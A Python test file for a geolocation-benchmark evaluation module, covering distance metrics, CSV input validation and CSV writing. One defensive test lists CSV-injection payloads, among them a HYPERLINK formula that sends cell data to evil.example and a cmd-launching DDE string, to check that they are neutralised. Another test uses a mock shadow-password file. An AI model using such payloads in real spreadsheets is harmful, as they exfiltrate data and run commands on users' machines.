import csv
from pathlib import Path

import numpy as np
import pytest

from geoforensics.errors import InputError
from geoforensics.evaluation import (
    OFFICIAL_KEYS,
    PointsWriter,
    evaluate_arrays,
    evaluate_files,
    read_points_csv,
    write_points_csv,
)
from geoforensics.paths import shared_dir

needs_shared = pytest.mark.skipif(shared_dir() is None, reason="needs ../shared (benchmark gold files)")


def _gold_path() -> Path:
    return shared_dir() / "data" / "benchmark-gold" / "xcdc_gold.csv"


def _write(path: Path, rows: list[tuple], header: str = "audio_id,latitude,longitude") -> Path:
    path.write_text(header + "\n" + "".join(",".join(str(v) for v in r) + "\n" for r in rows))
    return path


def _read_plain(path: Path) -> dict[str, tuple[float, float]]:
    with open(path, newline="") as f:
        return {r["audio_id"]: (float(r["latitude"]), float(r["longitude"])) for r in csv.DictReader(f)}


def official_formula(pred: dict, gold: dict) -> dict[str, float]:
    """The computation of nat-sound2loc-benchmark's evaluate_geo.py, written out plainly."""
    assert set(pred) == set(gold)
    g = np.array([gold[k] for k in gold])
    p = np.array([pred[k] for k in gold])
    phi1, phi2 = np.deg2rad(p[:, 0]), np.deg2rad(g[:, 0])
    dphi, dlam = np.deg2rad(g[:, 0] - p[:, 0]), np.deg2rad(g[:, 1] - p[:, 1])
    a = np.sin(dphi / 2) ** 2 + np.cos(phi1) * np.cos(phi2) * np.sin(dlam / 2) ** 2
    d = 2 * 6371 * np.arcsin(np.sqrt(a))
    out = {"mean_error": np.mean(d), "median_error": np.median(d)}
    for name, km in {"street": 1, "city": 25, "region": 200, "country": 750, "continent": 2500}.items():
        out[name] = np.mean(d <= km)
    return out


def noisy_predictions(gold: dict, sigma_deg: float, seed: int) -> dict[str, tuple[float, float]]:
    rng = np.random.default_rng(seed)
    ids = list(gold)
    pts = np.array([gold[k] for k in ids]) + rng.normal(0.0, sigma_deg, size=(len(ids), 2))
    lat = np.clip(pts[:, 0], -90, 90)
    lon = (pts[:, 1] + 180) % 360 - 180
    order = rng.permutation(len(ids))  # file order must not matter
    return {ids[i]: (float(lat[i]), float(lon[i])) for i in order}


@needs_shared
@pytest.mark.parametrize("sigma", [0.05, 2.0, 20.0])
def test_matches_official_formula_on_noisy_xcdc(tmp_path, sigma):
    gold = _read_plain(_gold_path())
    assert len(gold) == 576
    pred = noisy_predictions(gold, sigma, seed=7)
    pred_path = _write(tmp_path / "pred.csv", [(k, repr(v[0]), repr(v[1])) for k, v in pred.items()])
    ours = evaluate_files(pred_path, _gold_path())
    ref = official_formula(_read_plain(pred_path), gold)
    assert tuple(ours) == OFFICIAL_KEYS
    assert all(type(v) is float for v in ours.values())
    for k in OFFICIAL_KEYS:
        assert ours[k] == pytest.approx(float(ref[k]), abs=1e-9), k


@needs_shared
def test_noisy_xcdc_known_values(tmp_path):
    gold = _read_plain(_gold_path())
    pred = noisy_predictions(gold, 2.0, seed=7)
    pred_path = _write(tmp_path / "pred.csv", [(k, repr(v[0]), repr(v[1])) for k, v in pred.items()])
    m = evaluate_files(pred_path, _gold_path())
    # sigma 2 degrees per axis: a few hundred km typical error, nothing within 1 km, all within 2500 km
    assert 150 < m["median_error"] < 350
    assert m["street"] == 0.0
    assert 0.0 < m["city"] < 0.02
    assert 0.25 < m["region"] < 0.6
    assert m["country"] > 0.9
    assert m["continent"] == 1.0


@needs_shared
def test_perfect_predictions(tmp_path):
    m = evaluate_files(_gold_path(), _gold_path())
    assert m == {"mean_error": 0.0, "median_error": 0.0, "street": 1.0, "city": 1.0, "region": 1.0,
                 "country": 1.0, "continent": 1.0}


def test_small_known_case(tmp_path):
    gold = _write(tmp_path / "gold.csv", [("a", 0, 0), ("b", 0, 0), ("c", 10, 10)])
    pred = _write(tmp_path / "pred.csv", [("c", 10, 10), ("b", 0, 1), ("a", 0, 0)])
    m = evaluate_files(pred, gold)
    one_degree = 111.19492664455873
    assert m["mean_error"] == pytest.approx(one_degree / 3)
    assert m["median_error"] == 0.0
    assert m["street"] == pytest.approx(2 / 3) and m["region"] == 1.0


def test_read_points_csv(tmp_path):
    p = tmp_path / "p.csv"
    p.write_text("longitude,audio_id,latitude,extra\n-2.5, x1 ,1.5,foo\n4,x2,-3,bar\n\n")
    ids, latlon = read_points_csv(p)
    assert ids == ["x1", "x2"]
    assert latlon.tolist() == [[1.5, -2.5], [-3.0, 4.0]]


@pytest.mark.parametrize(
    "body, message",
    [
        ("audio_id,lat,lon\na,1,2\n", r"missing column\(s\) latitude, longitude"),
        ("", r"empty"),
        ("audio_id,latitude,longitude\n", r"no data rows"),
        ("audio_id,latitude,longitude\na,1,2\nb,3,4\na,5,6\nb,1,1\nc,0,0\n",
         r"2 audio_id\(s\) appear more than once: a, b"),
        ("audio_id,latitude,longitude\na,1,2\nb,nan,4\n", r"line 3 \(audio_id b\): latitude 'nan' is not a finite"),
        ("audio_id,latitude,longitude\na,1,2\nb,3,x\n", r"line 3 \(audio_id b\): longitude is not a number"),
        ("audio_id,latitude,longitude\na,91,2\n", r"line 2 \(audio_id a\): latitude 91 is outside \[-90, 90\]"),
        ("audio_id,latitude,longitude\na,1,-180.5\n", r"line 2 \(audio_id a\): longitude -180.5 is outside"),
        ("audio_id,latitude,longitude\n,1,2\n", r"line 2 has an empty audio_id"),
    ],
)
def test_bad_prediction_files(tmp_path, body, message):
    p = tmp_path / "pred.csv"
    p.write_text(body)
    with pytest.raises(InputError, match=message):
        read_points_csv(p)


def test_missing_file(tmp_path):
    with pytest.raises(InputError, match=r"predictions .*nope.csv: no such file"):
        read_points_csv(tmp_path / "nope.csv")


def test_mismatched_ids(tmp_path):
    gold = _write(tmp_path / "gold.csv", [(f"g{i}", 0, 0) for i in range(10)])
    pred = _write(tmp_path / "pred.csv", [(f"g{i}", 0, 0) for i in range(3)] + [("zz", 1, 1)])
    with pytest.raises(InputError) as e:
        evaluate_files(pred, gold)
    msg = str(e.value)
    assert "7 gold id(s) have no prediction (e.g. g3, g4, g5, g6, g7, ... (2 more))" in msg
    assert "1 predicted id(s) are not in the gold file (e.g. zz)" in msg


def test_evaluate_arrays():
    m = evaluate_arrays([[0, 0], [0, 180]], [[0, 0], [0, 0]])
    assert m["median_error"] == pytest.approx(np.pi * 6371 / 2)
    assert m["mean_error"] == pytest.approx(np.pi * 6371 / 2)
    assert m["continent"] == 0.5
    with pytest.raises(InputError, match="row 1 has latitude 100"):
        evaluate_arrays([[0, 0], [100, 0]], [[0, 0], [0, 0]])
    with pytest.raises(InputError, match="2 predictions for 1 gold"):
        evaluate_arrays([[0, 0], [0, 0]], [[0, 0]])


def test_write_points_csv_round_trip(tmp_path):
    ids = ["XC1", "a,b", 'say "hi"']
    latlon = np.array([[48.85661234, 2.35221234], [-33.8688, 151.2093], [0.0000004, -179.9999996]])
    path = write_points_csv(tmp_path / "p.csv", ids, latlon)
    assert path.read_text().splitlines() == [
        "audio_id,latitude,longitude",
        "XC1,48.856612,2.352212",
        '"a,b",-33.868800,151.209300',
        '"say ""hi""",0.000000,-180.000000',
    ]
    back = read_points_csv(path)
    assert back.ids == ids
    np.testing.assert_allclose(back.latlon, latlon, atol=5e-7)
    assert evaluate_files(path, path)["median_error"] == 0.0
    with pytest.raises(ValueError, match="3 ids for 2 points"):
        write_points_csv(tmp_path / "q.csv", ids, latlon[:2])


def test_formula_cells_are_neutralised_and_read_back_as_they_were(tmp_path):
    """CSV injection: a cell a spreadsheet would run (=, +, -, @, tab, CR first) gets a leading apostrophe;
    reading our files back gives the original text, and numbers (negative coordinates) are never touched."""
    ids = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1",
           "\r=1", "'quoted", "''=x", "plain", "a=b", "-5"]
    latlon = np.array([[-33.5, -70.25]] * len(ids))
    path = write_points_csv(tmp_path / "p.csv", ids, latlon)
    with open(path, newline="") as f:
        rows = list(csv.reader(f))[1:]
    first = [r[0] for r in rows]
    assert first[:8] == ["'" + i for i in ids[:8]]
    assert first[8:10] == ["plain", "a=b"] and first[10] == "'-5"
    assert all(r[1:] == ["-33.500000", "-70.250000"] for r in rows)
    assert read_points_csv(path).ids == ids
    with open(tmp_path / "x.csv", "w", newline="") as f:
        PointsWriter(f, columns=("note", "score"), decimals={"score": 2}).write("a", 1, 2, "=1+1", -0.5)
    assert (tmp_path / "x.csv").read_text().splitlines()[1] == "a,1.000000,2.000000,'=1+1,-0.50"


def test_points_writer_flushes_each_row(tmp_path):
    path = tmp_path / "p.csv"
    with open(path, "w", newline="") as f:
        writer = PointsWriter(f)
        assert path.read_text() == "audio_id,latitude,longitude\n"
        writer.write("r1", 1.5, -2.25)
        assert path.read_text().endswith("r1,1.500000,-2.250000\n")
        assert writer.rows == 1


def test_errors_never_quote_a_file_that_is_not_a_points_file(tmp_path):
    p = tmp_path / "shadow"
    p.write_text("root:$6$s3cr3tHash:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n")
    with pytest.raises(InputError, match=r"missing column\(s\) audio_id, latitude, longitude in its header row") as e:
        read_points_csv(p, "gold")
    assert "s3cr3t" not in str(e.value) and "daemon" not in str(e.value)
